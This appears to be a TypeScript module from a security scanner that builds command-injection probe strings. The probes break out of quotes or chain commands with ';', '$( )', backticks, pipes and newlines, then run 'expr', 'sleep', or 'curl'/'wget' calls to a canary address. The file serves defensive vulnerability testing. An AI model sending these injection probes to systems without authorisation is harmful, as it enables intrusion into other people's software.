import type { Canary, Random } from '@assay/contract';
import type { Payload } from './plant.ts';

/** A text that does something when a shell reads it. */
export interface CommandPayload extends Payload {
  /** What a shell makes of the value; it stands nowhere in it. */
  readonly sum: string;
  /** The sum is printed, or is in the address that the command calls: who merely follows addresses that stand in texts does not know it. */
  readonly tells: 'output' | 'canary';
  /** The same place in the shell's text, with a command that only waits. */
  readonly sleeping: (seconds: number) => string;
}

/** Where in a shell's text the value may stand: bare, in double quotes, in single quotes, behind a filter of `;` or of `$`. */
const settings: readonly ((command: string) => string)[] = [
  (command) => `a;${command};`,
  (command) => `a$(${command})`,
  (command) => `a';${command};'`,
  (command) => `a|${command}`,
  (command) => `a\`${command}\``,
  (command) => `a";${command};"`,
  (command) => `a\n${command}\n`,
];

/** What a call with either of two programs needs, in characters. */
const longCall = 150;

/**
 * What calls the canary with whatever program there is, and waits for a second where none is, needs no answer that shows anything: the two of these that reach every
 * setting are among the first three. Between them and after them comes what prints a sum, which is shorter.
 */
export function commandPayloads(random: Random, canary: Canary, maxLength: number): readonly CommandPayload[] {
  const payload = (
    setting: (command: string) => string,
    tells: CommandPayload['tells'],
    command: (a: number, b: number) => string,
  ): CommandPayload => {
    const a = random.integer(100_000_000, 400_000_000);
    const b = random.integer(100_000_000, 400_000_000);
    const value = setting(command(a, b));
    return { value, sum: String(a + b), tells, sleeping: (seconds) => setting(`sleep ${seconds}`) };
  };
  const printing = settings.map((setting) => payload(setting, 'output', (a, b) => `expr ${a} + ${b}`));
  const [bare, substituted, quoted] = settings.slice(0, 3).map((setting) =>
    payload(setting, 'canary', (a, b) => {
      const address = `${canary.authority}/$((${a}+${b}))`;
      // A name is often given 80 characters at most.
      const other = maxLength < longCall ? '' : `||wget -qT2 -O- ${address}`;
      return `curl -sm2 ${address}${other}||sleep 1`;
    }),
  );
  const mixed = [substituted, printing[0], quoted, printing[1], bare].flatMap((one) => one ?? []);
  return [...mixed, ...printing.slice(2)];
}
